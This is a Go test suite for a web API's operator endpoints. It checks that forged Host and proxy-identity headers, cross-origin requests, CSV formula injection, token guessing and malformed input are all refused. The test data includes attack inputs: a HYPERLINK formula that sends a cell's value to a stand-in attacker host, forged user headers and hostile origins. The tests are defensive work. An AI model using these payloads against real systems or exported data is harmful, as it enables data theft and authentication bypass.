package operator

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"

	"farebox/bench/upstream"
	"farebox/tests/rig"
)

// A page whose own name leads to the listener reads nothing: its name is in Host.
func TestOtherHostNamesAreRefused(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	_, port, _ := net.SplitHostPort(strings.TrimSuffix(strings.TrimPrefix(d.base, "http://"), "/operator/v1"))
	for host, want := range map[string]int{
		"127.0.0.1:" + port: 200, "localhost": 200, "LOCALHOST:9": 200, "desk.example.com": 200, "desk.example.com:443": 200,
		"evil.example": 421, "evil.example:" + port: 421, "127.0.0.1.evil.example": 421, "localhost.evil.example": 421,
		"desk.example.com.evil.example": 421, "127.0.0.2": 421, "[::1]": 421, "169.254.169.254": 421, "0.0.0.0": 421,
	} {
		if status, _, answer := d.as("reader", "GET", "/self", "", "Host: "+host); status != want {
			t.Errorf("Host: %s is answered %d %s", host, status, answer)
		}
	}
}

// Only the proxy names users: with its address, its secret, and one name of one user.
func TestForgedUsersAreRefused(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	proxied := "X-Farebox-Proxy-Secret: " + secret
	for _, headers := range [][]string{
		{},
		{"X-Forwarded-User: boss"},
		{"X-Forwarded-User: boss", "X-Farebox-Proxy-Secret: "},
		{"X-Forwarded-User: boss", "X-Farebox-Proxy-Secret: what the proxy knew"},
		{"X-Forwarded-User: boss", proxied, "X-Farebox-Proxy-Secret: x"},
		{"X-Forwarded-User: boss", "X-Forwarded-User: reader", proxied},
		{proxied},
		{"X-Forwarded-For: 127.0.0.1", "X-Real-Ip: 127.0.0.1"},
		{"Authorization: Basic Ym9zczpib3Nz"},
	} {
		if status, _, answer := d.send("GET", "/accounts", "", headers...); status != 401 {
			t.Errorf("%q is answered %d %s", headers, status, answer)
		}
	}
	for _, user := range []string{"nobody", "BOSS", "boss ,reader", "boss,reader"} {
		if status, _, answer := d.as(user, "GET", "/accounts", ""); status != 403 {
			t.Errorf("the user %q is answered %d %s", user, status, answer)
		}
	}
}

// On its own machine, a proxy's word counts only where its address is written.
func TestThisMachineIsNotAProxyByDefault(t *testing.T) {
	t.Parallel()
	addr := rig.FreeAddr(t)
	sim := rig.StartUpstream(t, upstream.Options{})
	text := strings.ReplaceAll(fmt.Sprintf(rig.PrepaidConfig, sim.URL)+fmt.Sprintf(settings, addr), "[127.0.0.1]", "[0.0.0.0/0]")
	rig.StartGateway(t, text)
	d := &desk{t: t, base: "http://" + addr + "/operator/v1"}
	if status, _, answer := d.as("boss", "GET", "/accounts", ""); status != 401 {
		t.Errorf("a prefix that has this machine among others is answered %d %s", status, answer)
	}
}

// A page that its user has open beside the desk changes nothing: it cannot send the header, and says where it is from.
func TestPagesOfOthersChangeNothing(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	who := []string{"X-Forwarded-User: boss", "X-Farebox-Proxy-Secret: " + secret}
	for _, headers := range [][]string{
		{},
		{"X-Farebox-Operator: 1", "Origin: https://evil.example"},
		{"X-Farebox-Operator: 1", "Origin: null"},
		{"X-Farebox-Operator: 1", "Origin: http://desk.example.com.evil.example"},
		{"X-Farebox-Operator: 1", "Sec-Fetch-Site: cross-site"},
		{"X-Farebox-Operator: 1", "Sec-Fetch-Site: same-site"},
	} {
		if status, header, answer := d.send("POST", "/accounts", `{"name":"x"}`, append(headers, who...)...); status != 403 ||
			header.Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("%q is answered %d %s", headers, status, answer)
		}
	}
	for _, kind := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""} {
		req, _ := http.NewRequest("POST", d.base+"/accounts", strings.NewReader(`{"name":"x"}`))
		req.Header = http.Header{"X-Forwarded-User": {"boss"}, "X-Farebox-Proxy-Secret": {secret}, "X-Farebox-Operator": {"1"},
			"Content-Type": {kind}}
		res, err := rig.Client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_ = res.Body.Close()
		if res.StatusCode != 415 {
			t.Errorf("a body of the type %q is answered %d", kind, res.StatusCode)
		}
	}
	if status, header, _ := d.send("OPTIONS", "/accounts", "", append(who, "Origin: https://evil.example",
		"Access-Control-Request-Method: POST", "Access-Control-Request-Headers: x-farebox-operator")...); status != 405 ||
		header.Get("Access-Control-Allow-Origin") != "" || header.Get("Access-Control-Allow-Headers") != "" {
		t.Errorf("a preflight is answered %d %v", status, header)
	}
	if list := d.must("GET", "/accounts", ""); list.Get("data.#").Int() != 0 {
		t.Errorf("there are accounts: %s", list)
	}
	for _, own := range []string{"http://desk.example.com", "https://desk.example.com", strings.TrimSuffix(d.base, "/operator/v1")} {
		d.must("POST", "/accounts", `{"name":"at `+own+`"}`, "Origin: "+own)
	}
}

// A customer's name is a formula: no spreadsheet runs it.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	for _, name := range []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", `=HYPERLINK("http://evil.example?"&A1,"x")`, "-5", "a,\"b\""} {
		d.must("POST", "/accounts", fmt.Sprintf(`{"name":%q}`, name))
	}
	status, header, text := d.as("reader", "GET", "/accounts?format=csv", "")
	if status != 200 || !strings.HasPrefix(header.Get("Content-Type"), "text/csv") || header.Get("Cache-Control") != "no-store" ||
		!strings.HasPrefix(header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("%d %v", status, header)
	}
	for _, want := range []string{",'=1+1,", ",'+1+1,", ",'-1+1,", ",'@SUM(A1),", `,"'=HYPERLINK(""http://evil.example?""&A1,""x"")",`,
		",-5,", `,"a,""b""",`} {
		if !strings.Contains(text, want) {
			t.Errorf("%s is not in\n%s", want, text)
		}
	}
	if n := strings.Count(text, "\r\n"); n != 8 {
		t.Errorf("%d lines:\n%s", n, text)
	}
}

// After ten wrong tokens an address is refused unread. Other addresses are not.
func TestGuessingTokensIsSlow(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	from := func(address string) *http.Client {
		dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(address)}}
		return &http.Client{Timeout: rig.CallLimit, Transport: &http.Transport{DialContext: dialer.DialContext, DisableKeepAlives: true}}
	}
	guess := func(c *http.Client, n int) *http.Response {
		req, _ := http.NewRequest("GET", d.base+"/self", nil)
		req.Header.Set("Authorization", fmt.Sprintf("Bearer fbo_%032d", n))
		res, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, res.Body)
		_ = res.Body.Close()
		return res
	}
	guesser, other := from("127.0.0.7"), from("127.0.0.8")
	seen := map[int]int{}
	for n := range 50 {
		res := guess(guesser, n)
		if seen[res.StatusCode]++; res.StatusCode == 429 && res.Header.Get("Retry-After") == "" {
			t.Errorf("guess %d has no Retry-After", n)
		}
	}
	if seen[401] < 10 || seen[401] > 12 || seen[401]+seen[429] != 50 {
		t.Errorf("50 guesses are answered %v", seen)
	}
	if res := guess(other, 51); res.StatusCode != 401 {
		t.Errorf("another address is answered %d", res.StatusCode)
	}
	if status, _, answer := d.as("boss", "GET", "/self", ""); status != 200 {
		t.Errorf("the owner is answered %d %s", status, answer)
	}
}

// Ambiguous and unknown query parameters are refused and named.
func TestQueriesAreStrict(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	d.must("POST", "/accounts", `{"name":"a"}`)
	for body, member := range map[string]string{
		`{"amount":"1","currency":"USD","amount":"2"}`:                "body",
		`{"amount":"1","AMOUNT":"2","currency":"USD"}`:                "body",
		`{"amount":"1","currency":"USD","account":"b"}`:               "account",
		`{"amount":"1","currency":"USD","bonus":true}`:                "bonus",
		`{"Amount":"1","currency":"USD"}`:                             "Amount",
		`{"amount":"1","currency":"USD"} {}`:                          "body",
		`[1]`:                                                         "body",
		`{"amount":`:                                                  "body",
		"{\"amount\":\"1\xff\",\"currency\":\"USD\"}":                 "body",
		strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100): "body",
		`{"amount":"1","currency":"USD","reason":7}`:                  "reason",
	} {
		status, _, answer := d.as("boss", "POST", "/accounts/a/credits", body)
		if status != 400 || !strings.Contains(answer, `"path":["`+member+`"]`) {
			t.Errorf("%s is answered %d %s", body, status, answer)
		}
	}
	for path, member := range map[string]string{"/accounts?limit=1&limit=2": "limit", "/accounts?nothing=1": "nothing",
		"/accounts?format=xml": "format", "/accounts?%zz": "query string", "/usage?format=csv&format=csv": "format"} {
		if status, _, answer := d.as("boss", "GET", path, ""); status != 400 || !strings.Contains(answer, member) {
			t.Errorf("%s is answered %d %s", path, status, answer)
		}
	}
	large := `{"name":"` + strings.Repeat("x", 70<<10) + `"}`
	if status, _, answer := d.as("boss", "POST", "/accounts", large); status != 413 {
		t.Errorf("a large body is answered %d %s", status, answer)
	}
	if status, _, _ := d.as("boss", "GET", "/self", "", "X-Large: "+strings.Repeat("x", 9<<10)); status != 431 {
		t.Errorf("a large head is answered %d", status)
	}
}
